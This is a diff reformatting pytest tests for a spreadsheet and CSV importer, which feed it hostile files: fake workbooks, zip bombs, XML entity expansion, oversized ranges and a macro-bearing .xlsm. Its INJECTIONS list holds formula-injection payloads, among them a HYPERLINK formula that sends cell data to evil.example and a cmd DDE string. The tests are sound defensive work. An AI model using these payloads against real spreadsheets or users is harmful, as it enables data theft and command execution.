@@ -54,7 +54,11 @@ def refused(engine, file_name: str, data: bytes, *words: str) -> str:
         assert word in message, message
     assert wb.table_counts(engine) == before
     with engine.connect() as connection:
-        outcomes = connection.execute(text("SELECT outcome FROM imports WHERE file_name = :f"), {"f": file_name}).scalars().all()
+        outcomes = (
+            connection.execute(text("SELECT outcome FROM imports WHERE file_name = :f"), {"f": file_name})
+            .scalars()
+            .all()
+        )
     assert outcomes == ["rejected"]  # the rejection is logged, its data is not written
     return message
 
@@ -62,16 +66,27 @@ def refused(engine, file_name: str, data: bytes, *words: str) -> str:
 # --- Not what the extension says ------------------------------------------------------------
 
 
-@pytest.mark.parametrize("content", [b"Package ID,LA\nPKG-1,Sefton\n", hostile.ELF, hostile.MZ, hostile.PDF, hostile.OLE_HEADER],
-                         ids=["csv", "elf", "mz", "pdf", "old-xls"])
+@pytest.mark.parametrize(
+    "content",
+    [b"Package ID,LA\nPKG-1,Sefton\n", hostile.ELF, hostile.MZ, hostile.PDF, hostile.OLE_HEADER],
+    ids=["csv", "elf", "mz", "pdf", "old-xls"],
+)
 @pytest.mark.parametrize("extension", [".xlsx", ".xlsm"])
 def test_a_workbook_that_is_really_something_else_is_refused(engine, content, extension):
     refused(engine, f"return{extension}", content, f"not a real {extension} workbook")
 
 
-@pytest.mark.parametrize("content", [hostile.ELF, hostile.MZ, hostile.PDF, hostile.OLE_HEADER,
-                                     hostile.package({"Engagements": hostile.simple_sheet([ENGAGEMENT_HEADER])})],
-                         ids=["elf", "mz", "pdf", "old-xls", "xlsx"])
+@pytest.mark.parametrize(
+    "content",
+    [
+        hostile.ELF,
+        hostile.MZ,
+        hostile.PDF,
+        hostile.OLE_HEADER,
+        hostile.package({"Engagements": hostile.simple_sheet([ENGAGEMENT_HEADER])}),
+    ],
+    ids=["elf", "mz", "pdf", "old-xls", "xlsx"],
+)
 def test_a_csv_that_is_really_a_binary_file_is_refused(engine, content):
     refused(engine, "return.csv", content, "not a CSV text file")
 
@@ -96,15 +111,19 @@ def zip_flags_patched(data: bytes, *, encrypted: bool = False, method: int | Non
             if encrypted:
                 patched[start + flags_at] |= 1
             if method is not None:
-                patched[start + method_at:start + method_at + 2] = method.to_bytes(2, "little")
+                patched[start + method_at : start + method_at + 2] = method.to_bytes(2, "little")
     return bytes(patched)
 
 
-@pytest.mark.parametrize("how, words", [
-    ({"encrypted": True}, ("zipped with a password", "without one")),
-    ({"method": 12}, ("not a readable .xlsx workbook", "damaged zip")),  # bzip2 that does not decompress
-    ({"method": 99}, ("not a readable .xlsx workbook", "damaged zip")),  # a method no reader knows
-], ids=["password", "bad-bzip2", "unknown-method"])
+@pytest.mark.parametrize(
+    "how, words",
+    [
+        ({"encrypted": True}, ("zipped with a password", "without one")),
+        ({"method": 12}, ("not a readable .xlsx workbook", "damaged zip")),  # bzip2 that does not decompress
+        ({"method": 99}, ("not a readable .xlsx workbook", "damaged zip")),  # a method no reader knows
+    ],
+    ids=["password", "bad-bzip2", "unknown-method"],
+)
 def test_a_zip_with_a_password_or_a_broken_compression_is_refused(engine, how, words):
     data = wb.xlsx(wb.quarterly_return(engagements=[wb.engagement_row()]))
     refused(engine, "return.xlsx", zip_flags_patched(data, **how), *words)
@@ -142,8 +161,11 @@ def test_the_unpacked_limit_comes_from_the_settings(engine, monkeypatch):
 
 def test_a_member_that_lies_about_its_size_is_refused_within_memory(engine, tmp_path):
     """A sheet declaring 5 kB that inflates to ~50 MB: no reader may believe the header."""
-    data = hostile.lying_sizes(hostile.package({"Engagements": hostile.many_rows_part(300_000)}, compresslevel=1),
-                               "xl/worksheets/sheet1.xml", 5_000)
+    data = hostile.lying_sizes(
+        hostile.package({"Engagements": hostile.many_rows_part(300_000)}, compresslevel=1),
+        "xl/worksheets/sheet1.xml",
+        5_000,
+    )
     result = hostile.read_in_capped_process(tmp_path, "liar.xlsx", data, memory_mb=1024)
     assert "declared uncompressed size" in result["refused"] or "damaged" in result["refused"]
     refused(engine, "liar.xlsx", data, "cannot be read")
@@ -155,8 +177,10 @@ def test_a_member_that_lies_about_its_size_is_refused_within_memory(engine, tmp_
 @pytest.mark.parametrize("where", ["sheet", "sheet-after-padding", "shared-strings"])
 def test_xml_entity_expansion_is_refused(engine, tmp_path, where):
     if where == "shared-strings":
-        data = hostile.package({"Engagements": hostile.simple_sheet([ENGAGEMENT_HEADER])},
-                               extra_parts={"xl/sharedStrings.xml": hostile.entity_shared_strings()})
+        data = hostile.package(
+            {"Engagements": hostile.simple_sheet([ENGAGEMENT_HEADER])},
+            extra_parts={"xl/sharedStrings.xml": hostile.entity_shared_strings()},
+        )
         part = "xl/sharedStrings.xml"
     else:
         padding = 10_000 if where == "sheet-after-padding" else 0  # the DOCTYPE after the first bytes
@@ -175,31 +199,44 @@ def test_a_nul_character_in_a_workbook_cell_is_refused(engine):
 
 
 def test_a_cell_at_row_1048576_is_refused_without_building_the_grid(engine, tmp_path):
-    sheet = hostile.sheet_xml(hostile.rows_xml({1: ENGAGEMENT_HEADER, 2: engagement_values(), 1_048_576: ["stray"]}),
-                              dimension="A1:G1048576")
+    sheet = hostile.sheet_xml(
+        hostile.rows_xml({1: ENGAGEMENT_HEADER, 2: engagement_values(), 1_048_576: ["stray"]}), dimension="A1:G1048576"
+    )
     data = hostile.package({"Engagements": sheet})
     result = hostile.read_in_capped_process(tmp_path, "tall.xlsx", data, memory_mb=1024)
     assert "row 1,048,576" in result["refused"]
-    refused(engine, "tall.xlsx", data, "'Engagements' uses cells as far as row 1,048,576 and column G",
-            "delete the rows and columns beyond the table")
+    refused(
+        engine,
+        "tall.xlsx",
+        data,
+        "'Engagements' uses cells as far as row 1,048,576 and column G",
+        "delete the rows and columns beyond the table",
+    )
 
 
 def test_a_cell_at_xfd1048576_does_not_abort_the_process(engine, tmp_path):
     """Calamine would ask for 17 billion cells and abort; the used range is measured first."""
-    sheet = hostile.sheet_xml('<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>',
-                              dimension="A1:XFD1048576")
+    sheet = hostile.sheet_xml(
+        '<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>',
+        dimension="A1:XFD1048576",
+    )
     data = hostile.package({"Engagements": sheet})
     assert "column XFD" in hostile.read_in_capped_process(tmp_path, "corner.xlsx", data, memory_mb=1024)["refused"]
     refused(engine, "corner.xlsx", data, "as far as row 1,048,576 and column XFD")
 
 
-@pytest.mark.parametrize("stray", [
-    '<row r="1048576"><c r="G1048576"><v>1</v></c></row>',  # below the declared range
-    '<row r="1000"><c r="XFD1000"><v>1</v></c></row>',  # right of it
-    '<row r="1048576"><c r="g1048576"><v>1</v></c></row>',  # a reference not written as Excel writes it
-    '<row r="1048576"><x:c xmlns:x="' + hostile.MAIN_NS + '" r="G1048576"><x:v>1</x:v></x:c></row>',  # a prefixed cell
-    '<row r="1048576"><c s="1" r="G1048576"><v>1</v></c></row>',  # r= not the first attribute
-])
+@pytest.mark.parametrize(
+    "stray",
+    [
+        '<row r="1048576"><c r="G1048576"><v>1</v></c></row>',  # below the declared range
+        '<row r="1000"><c r="XFD1000"><v>1</v></c></row>',  # right of it
+        '<row r="1048576"><c r="g1048576"><v>1</v></c></row>',  # a reference not written as Excel writes it
+        '<row r="1048576"><x:c xmlns:x="'
+        + hostile.MAIN_NS
+        + '" r="G1048576"><x:v>1</x:v></x:c></row>',  # a prefixed cell
+        '<row r="1048576"><c s="1" r="G1048576"><v>1</v></c></row>',  # r= not the first attribute
+    ],
+)
 def test_a_dimension_that_understates_the_used_range_is_not_trusted(tmp_path, stray):
     """The declared <dimension> is used only when no cell lies beyond it; here one does."""
     rows = hostile.rows_xml([ENGAGEMENT_HEADER, engagement_values()])
@@ -208,13 +245,17 @@ def test_a_dimension_that_understates_the_used_range_is_not_trusted(tmp_path, st
 
 
 @pytest.mark.parametrize("dimension", ["A1:G2", None], ids=["understated", "no-dimension"])
-@pytest.mark.parametrize("stray", [
-    '<row r="1000"><c a=">" r="XFD1000"><v>1</v></c></row>',  # a quoted ">" before r=
-    '<row r="3"><c r="A3" t="n" r="XFD1048576"><v>1</v></c></row>',  # a second r= (calamine takes the last)
-    '<row r="1048576"><c r="AAAA1048576"><v>1</v></c></row>',  # four column letters (calamine reads them)
-    '<row a=">" r="1048576">' + "<c><v>1</v></c>" * 20 + "</row>",  # a row number after a quoted ">"
-    '<row r="1048576"><c r="A1"><v>1</v></c>' + "<c><v>1</v></c>" * 20 + "</row>",  # after A1, in row 1,048,576
-], ids=["quoted-gt", "second-r", "four-letters", "row-after-quoted-gt", "row-kept-after-a-reference"])
+@pytest.mark.parametrize(
+    "stray",
+    [
+        '<row r="1000"><c a=">" r="XFD1000"><v>1</v></c></row>',  # a quoted ">" before r=
+        '<row r="3"><c r="A3" t="n" r="XFD1048576"><v>1</v></c></row>',  # a second r= (calamine takes the last)
+        '<row r="1048576"><c r="AAAA1048576"><v>1</v></c></row>',  # four column letters (calamine reads them)
+        '<row a=">" r="1048576">' + "<c><v>1</v></c>" * 20 + "</row>",  # a row number after a quoted ">"
+        '<row r="1048576"><c r="A1"><v>1</v></c>' + "<c><v>1</v></c>" * 20 + "</row>",  # after A1, in row 1,048,576
+    ],
+    ids=["quoted-gt", "second-r", "four-letters", "row-after-quoted-gt", "row-kept-after-a-reference"],
+)
 def test_cells_placed_as_calamine_places_them_are_measured(tmp_path, stray, dimension):
     """Calamine reads tags as an XML parser does and places a cell without r= in its row, after the
     cell before; the used range is measured the same way (these once aborted or passed the limit)."""
@@ -228,21 +269,28 @@ def test_cells_placed_as_calamine_places_them_are_measured(tmp_path, stray, dime
 
 def test_a_sheet_part_the_reader_cannot_find_is_looked_for_in_every_part(tmp_path):
     """A relationship the reader does not follow (single quotes): every other part is measured."""
-    sheet = hostile.sheet_xml('<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')
+    sheet = hostile.sheet_xml(
+        '<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
+    )
     with zipfile.ZipFile(io.BytesIO(hostile.package({"Engagements": sheet}))) as package:
         parts = {name: package.read(name) for name in package.namelist()}
     parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(
-        b'Target="worksheets/sheet1.xml"', b"Target='worksheets/sheet1.xml'")
+        b'Target="worksheets/sheet1.xml"', b"Target='worksheets/sheet1.xml'"
+    )
     result = hostile.read_in_capped_process(tmp_path, "quoted.xlsx", hostile.write_zip(parts), memory_mb=1024)
     assert "column XFD" in result["refused"]
 
 
 @pytest.mark.timeout(60)
-@pytest.mark.parametrize("body", [
-    '<row r="1"><c r="A1"' + ' r="A1"' * 100_000 + "/></row>",  # one cell tag, 100,000 attributes
-    '<row r="1">' + '<c r="A1" t="e">' * 100_000 + "</c></row>",  # error cells never closed
-    '<row r="1"><c r="A1">' + "<f" * 200_000 + "</c></row>",  # formula tags never closed
-], ids=["attributes", "unclosed-cells", "unclosed-formulas"])
+@pytest.mark.parametrize(
+    "body",
+    [
+        '<row r="1"><c r="A1"' + ' r="A1"' * 100_000 + "/></row>",  # one cell tag, 100,000 attributes
+        '<row r="1">' + '<c r="A1" t="e">' * 100_000 + "</c></row>",  # error cells never closed
+        '<row r="1"><c r="A1">' + "<f" * 200_000 + "</c></row>",  # formula tags never closed
+    ],
+    ids=["attributes", "unclosed-cells", "unclosed-formulas"],
+)
 def test_small_hostile_sheets_take_no_time(body):
     """Each took minutes (a regex backtracking, or a search rescanning the part for every cell)."""
     before = threading.active_count()
@@ -279,7 +327,9 @@ def test_16384_columns_are_read_and_the_extra_ones_ignored(seeded, tmp_path):
     header = ENGAGEMENT_HEADER + [None] * (16_384 - len(ENGAGEMENT_HEADER) - 1) + ["Far notes"]
     row = engagement_values() + [None] * (16_384 - len(ENGAGEMENT_HEADER) - 1) + ["far away"]
     data = hostile.package({"Engagements": hostile.sheet_xml(hostile.rows_xml([header, row]), dimension="A1:XFD2")})
-    assert hostile.read_in_capped_process(tmp_path, "wide.xlsx", data, memory_mb=1024)["sheets"] == [["Engagements", 2, 16_384]]
+    assert hostile.read_in_capped_process(tmp_path, "wide.xlsx", data, memory_mb=1024)["sheets"] == [
+        ["Engagements", 2, 16_384]
+    ]
     outcome = import_file(seeded, "wide.xlsx", data, "hostile")
     assert outcome.plan.ok, [str(p) for p in outcome.plan.errors]
     assert outcome.plan.totals()["inserted"] == 1
@@ -293,9 +343,12 @@ def test_an_xlsm_with_a_macro_imports_its_data_and_never_runs_the_macro(seeded, 
     the sheet data imports as from any workbook, and the auto-open macro does nothing."""
     marker = tmp_path / "pwned"
     macro = hostile.vba_project().replace(b"/tmp/pwned", str(marker).encode())
-    data = hostile.package({"Engagements": hostile.simple_sheet([ENGAGEMENT_HEADER, engagement_values()])}, macro=True,
-                           extra_parts={"xl/vbaProject.bin": macro},
-                           extra_content_types='<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>')
+    data = hostile.package(
+        {"Engagements": hostile.simple_sheet([ENGAGEMENT_HEADER, engagement_values()])},
+        macro=True,
+        extra_parts={"xl/vbaProject.bin": macro},
+        extra_content_types='<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>',
+    )
     outcome = import_file(seeded, "return.xlsm", data, "hostile")
     assert outcome.plan.ok, [str(p) for p in outcome.plan.errors]
     assert outcome.plan.totals()["inserted"] == 1
@@ -316,7 +369,10 @@ def test_a_formula_with_an_error_value_is_a_row_error(seeded, code):
 def test_a_formula_without_a_cached_value_in_a_required_column_is_a_row_error(seeded, column):
     row = wb.engagement_row({column: wb.Formula("VLOOKUP(A2,Lookup!A:B,2,FALSE)")})
     message = refused(seeded, "uncached.xlsx", wb.xlsx(wb.quarterly_return(engagements=[row])))
-    assert f"uncached.xlsx:Engagements:2:{column}: the formula =VLOOKUP(A2,Lookup!A:B,2,FALSE) has no saved value" in message
+    assert (
+        f"uncached.xlsx:Engagements:2:{column}: the formula =VLOOKUP(A2,Lookup!A:B,2,FALSE) has no saved value"
+        in message
+    )
 
 
 def test_a_formula_with_a_cached_value_uses_the_value(seeded):
@@ -328,15 +384,26 @@ def test_a_formula_with_a_cached_value_uses_the_value(seeded):
 
 # --- Formula injection -------------------------------------------------------------------------------
 
-INJECTIONS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)",
-              "=1+1", "\t=1+1"]
+INJECTIONS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1,1)",
+    "=1+1",
+    "\t=1+1",
+]
 STORED = sorted(payload.strip() for payload in INJECTIONS)  # surrounding spaces and tabs are trimmed, as for all text
 
 
 def _engagements_frame(engine) -> pd.DataFrame:
     with engine.connect() as connection:
-        return pd.read_sql(text("SELECT package_id, participant_id, participant_name, delivered_by FROM engagements "
-                                "WHERE participant_id LIKE 'INJ-%' ORDER BY participant_id"), connection)
+        return pd.read_sql(
+            text(
+                "SELECT package_id, participant_id, participant_name, delivered_by FROM engagements "
+                "WHERE participant_id LIKE 'INJ-%' ORDER BY participant_id"
+            ),
+            connection,
+        )
 
 
 @pytest.mark.parametrize("how", ["xlsx", "csv"])
@@ -381,7 +448,9 @@ def test_a_csv_with_a_huge_field_is_refused_not_a_crash(engine):
 
 
 def test_a_windows_1252_csv_is_decoded(seeded):
-    spec = wb.SheetSpec("Engagements", [wb.engagement_row({"Participant name": "Zoë £ Brontë", "Start date": date(2021, 6, 1)})])
+    spec = wb.SheetSpec(
+        "Engagements", [wb.engagement_row({"Participant name": "Zoë £ Brontë", "Start date": date(2021, 6, 1)})]
+    )
     outcome = import_file(seeded, "cp1252.csv", wb.csv_bytes(spec, encoding="cp1252"), "hostile")
     assert outcome.plan.ok, [str(p) for p in outcome.plan.errors]
     assert outcome.plan.sheets[0].rows[0].values["participant_name"] == "Zoë £ Brontë"
@@ -390,29 +459,37 @@ def test_a_windows_1252_csv_is_decoded(seeded):
 # --- Values the database columns cannot hold ---------------------------------------------------------
 
 
-@pytest.mark.parametrize("kind, override, column", [
-    ("engagements", {"Package ID": "P" * 81}, "Package ID"),
-    ("engagements", {"Participant name": "N" * 201}, "Participant name"),
-    ("engagements", {"Days delivered": 10**9}, "Days delivered"),
-    ("finance", {"Amount": 10**13}, "Amount"),
-    ("finance", {"Line": 10**10}, "Line"),
-    # past the 28 digits of Decimal's default precision: pence and the limit check must not crash
-    ("finance", {"Amount": 1e26}, "Amount"),
-    ("engagements", {"Days delivered": 1e300}, "Days delivered"),
-    ("finance", {"Amount": "£" + "9" * 40}, "Amount"),
-])
+@pytest.mark.parametrize(
+    "kind, override, column",
+    [
+        ("engagements", {"Package ID": "P" * 81}, "Package ID"),
+        ("engagements", {"Participant name": "N" * 201}, "Participant name"),
+        ("engagements", {"Days delivered": 10**9}, "Days delivered"),
+        ("finance", {"Amount": 10**13}, "Amount"),
+        ("finance", {"Line": 10**10}, "Line"),
+        # past the 28 digits of Decimal's default precision: pence and the limit check must not crash
+        ("finance", {"Amount": 1e26}, "Amount"),
+        ("engagements", {"Days delivered": 1e300}, "Days delivered"),
+        ("finance", {"Amount": "£" + "9" * 40}, "Amount"),
+    ],
+)
 def test_values_too_big_for_their_column_are_row_errors_on_every_backend(seeded, kind, override, column):
     message = refused(seeded, "big.xlsx", wb.xlsx(wb.one_row(kind, override)))
-    assert f"big.xlsx:{kind.capitalize()}:2:{column}: " in message and ("too large" in message or "characters long" in message)
+    assert f"big.xlsx:{kind.capitalize()}:2:{column}: " in message and (
+        "too large" in message or "characters long" in message
+    )
 
 
-@pytest.mark.parametrize("kind, override, column", [
-    ("engagements", {"Start date": "01/01/0000"}, "Start date"),  # year 0: no such date in Python
-    ("engagements", {"End date": date(9999, 12, 31)}, "End date"),  # its "+3 months" would not exist
-    ("engagements", {"End date": 2958465}, "End date"),  # 31/12/9999 as an Excel date number
-    ("contracts", {"Extension up to": "1 Apr 9999"}, "Extension up to"),  # its deadlines would not exist
-    ("finance", {"Invoice date": "31/12/1899"}, "Invoice date"),
-])
+@pytest.mark.parametrize(
+    "kind, override, column",
+    [
+        ("engagements", {"Start date": "01/01/0000"}, "Start date"),  # year 0: no such date in Python
+        ("engagements", {"End date": date(9999, 12, 31)}, "End date"),  # its "+3 months" would not exist
+        ("engagements", {"End date": 2958465}, "End date"),  # 31/12/9999 as an Excel date number
+        ("contracts", {"Extension up to": "1 Apr 9999"}, "Extension up to"),  # its deadlines would not exist
+        ("finance", {"Invoice date": "31/12/1899"}, "Invoice date"),
+    ],
+)
 def test_dates_outside_the_dashboards_range_are_row_errors_not_crashes(seeded, kind, override, column):
     """Dates from 01/01/1900 to 31/12/2199: a date nearer the end of the calendar made the figures
     crash once it was stored (the window's end, the FY's end or a deadline past year 9999)."""
@@ -427,31 +504,47 @@ def test_financial_years_outside_the_dashboards_range_are_row_errors(seeded, yea
     assert ":Financial year: expected a financial year" in message
 
 
-@pytest.mark.parametrize("file_name, contract, stored", [
-    ("reg\udcff.xlsx", None, "reg?.xlsx"),  # an undecodable byte of a command-line file name
-    ("reg\x00.xlsx", None, "reg.xlsx"),  # PostgreSQL text cannot hold NUL
-    ("return.xlsx", "CON-1\x00", "return.xlsx"),
-])
-def test_file_names_and_contract_options_the_database_cannot_hold_are_made_storable(seeded, file_name, contract,
-                                                                                    stored):
-    outcome = import_file(seeded, file_name, wb.xlsx(wb.quarterly_return(engagements=[wb.engagement_row()])),
-                          "hostile", contract=contract)
+@pytest.mark.parametrize(
+    "file_name, contract, stored",
+    [
+        ("reg\udcff.xlsx", None, "reg?.xlsx"),  # an undecodable byte of a command-line file name
+        ("reg\x00.xlsx", None, "reg.xlsx"),  # PostgreSQL text cannot hold NUL
+        ("return.xlsx", "CON-1\x00", "return.xlsx"),
+    ],
+)
+def test_file_names_and_contract_options_the_database_cannot_hold_are_made_storable(
+    seeded, file_name, contract, stored
+):
+    outcome = import_file(
+        seeded, file_name, wb.xlsx(wb.quarterly_return(engagements=[wb.engagement_row()])), "hostile", contract=contract
+    )
     assert outcome.plan.ok and outcome.import_id, [str(problem) for problem in outcome.plan.errors]
     with seeded.connect() as connection:
-        assert connection.execute(text("SELECT file_name FROM imports WHERE id = :i"),
-                                  {"i": outcome.import_id}).scalar() == stored
+        assert (
+            connection.execute(text("SELECT file_name FROM imports WHERE id = :i"), {"i": outcome.import_id}).scalar()
+            == stored
+        )
 
 
 def test_an_la_on_two_la_status_tabs_is_one_history_not_a_clash(seeded):
     """Two LA status tabs naming Sefton were checked apart, then clashed in the database ("try again")."""
-    data = wb.xlsx(wb.SheetSpec("LA status", [wb.la_status_row()]),
-                   wb.SheetSpec("LA status March", [wb.la_status_row({"ILACS judgement": "Inadequate"})]))
+    data = wb.xlsx(
+        wb.SheetSpec("LA status", [wb.la_status_row()]),
+        wb.SheetSpec("LA status March", [wb.la_status_row({"ILACS judgement": "Inadequate"})]),
+    )
     outcome = import_file(seeded, "status.xlsx", data, "hostile")
     assert outcome.plan.ok and outcome.import_id, [str(problem) for problem in outcome.plan.errors]
     with seeded.connect() as connection:
-        latest = connection.execute(text(
-            "SELECT ilacs_judgement FROM la_status WHERE la_code = 'E08000014' AND source = 'import' "
-            "ORDER BY effective_date DESC, id DESC")).scalars().first()
+        latest = (
+            connection.execute(
+                text(
+                    "SELECT ilacs_judgement FROM la_status WHERE la_code = 'E08000014' AND source = 'import' "
+                    "ORDER BY effective_date DESC, id DESC"
+                )
+            )
+            .scalars()
+            .first()
+        )
     assert latest == "Inadequate"  # the last tab's row is the LA's current status
 
 
